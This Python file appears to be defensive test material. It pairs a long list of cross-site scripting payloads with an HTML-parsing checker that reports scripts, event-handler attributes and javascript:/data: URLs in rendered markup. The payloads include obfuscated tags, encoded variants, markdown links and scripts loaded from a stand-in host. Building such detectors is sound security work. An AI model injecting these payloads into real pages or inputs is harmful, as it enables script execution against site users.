"""Texts that run where somebody draws them as markup, and a reader of pages that sees what would run."""

import re
from html.parser import HTMLParser

PAYLOADS = r"""
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example.test></script>
<script\n>alert(1)</script\n>
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>alert(1)</script>
<script>alert(1)
<<script>alert(1);//<</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src="x"/onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1)>
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<body onload=alert(1)>
<iframe src=javascript:alert(1)>
<iframe srcdoc='<script>alert(1)</script>'>
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href='java\tscript:alert(1)'>x</a>
<a href=data:text/html,<script>alert(1)</script>>x</a>
<form action=javascript:alert(1)><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<input onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<meta http-equiv=refresh content=0;url=javascript:alert(1)>
<base href=//evil.example.test/>
<link rel=stylesheet href=//evil.example.test>
<style>@import '//evil.example.test'</style>
<x contenteditable onblur=alert(1)>x</x>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
` onclick=alert(1) `
-->"<script>alert(1)</script><!--
]]><script>alert(1)</script>
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java\nscript:alert(1)
javascript://example.test/%0aalert(1)
https://example.test/"onmouseover="alert(1)
https://example.test/'><svg/onload=alert(1)>
http://javascript:alert(1)@example.test/
[x](javascript:alert(1))
[x](<javascript:alert(1)>)
[x](https://example.test/" onclick="alert(1))
[<img src=x onerror=alert(1)>](https://example.test/a)
`<script>alert(1)</script>` **<svg/onload=alert(1)>** _"onclick=alert(1)_
{{ 7*7 }}{% load x %}${alert(1)}#{7*7}
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\u202e<script>alert(1)</script>
<\u200bscript>alert(1)</script>
""".strip("\n").split("\n")
for written, meant in (("\\n", "\n"), ("\\t", "\t"), ("\\u202e", "\u202e"), ("\\u200b", "\u200b")):
    PAYLOADS = [one.replace(written, meant) for one in PAYLOADS]
RUNS = frozenset("script iframe object embed base meta link style animate set template noscript math marquee".split())
# What a page of ours has itself.
OURS = frozenset({"script", "meta", "link", "template", "noscript"})
PLACES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset", "background", "ping"}
SCHEME = re.compile(r"(?:javascript|vbscript|data):", re.IGNORECASE)


class _Reader(HTMLParser):
    """Takes `/` between attributes for a blank, as browsers do; what is not escaped is an element to it."""

    def __init__(self, allowed: frozenset[str]) -> None:
        super().__init__()
        self.allowed, self.found, self.inside = allowed, list[str](), ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside = tag
        if tag in RUNS - self.allowed:
            self.found.append(str(self.get_starttag_text())[:120])
        for name, value in attrs:
            leads = name in PLACES and SCHEME.match(re.sub(r"[\x00-\x20]", "", value or ""))
            if leads or name.startswith("on") or name in {"srcdoc", "style"}:
                self.found.append(f"{tag} {name}={value}"[:120])

    def handle_data(self, data: str) -> None:
        if self.inside in {"script", "style"} and data.strip():
            self.found.append(data[:120])

    def handle_endtag(self, tag: str) -> None:
        self.inside = ""


def running(drawn: str, *, allowed: frozenset[str] = frozenset()) -> list[str]:
    """Name what of a page or a piece of one could run; read as a browser reads, not looked for as text.

    allowed: elements that may be there, scripts only without words of their own.
    """
    reader = _Reader(allowed)
    reader.feed(drawn)
    reader.close()
    return reader.found
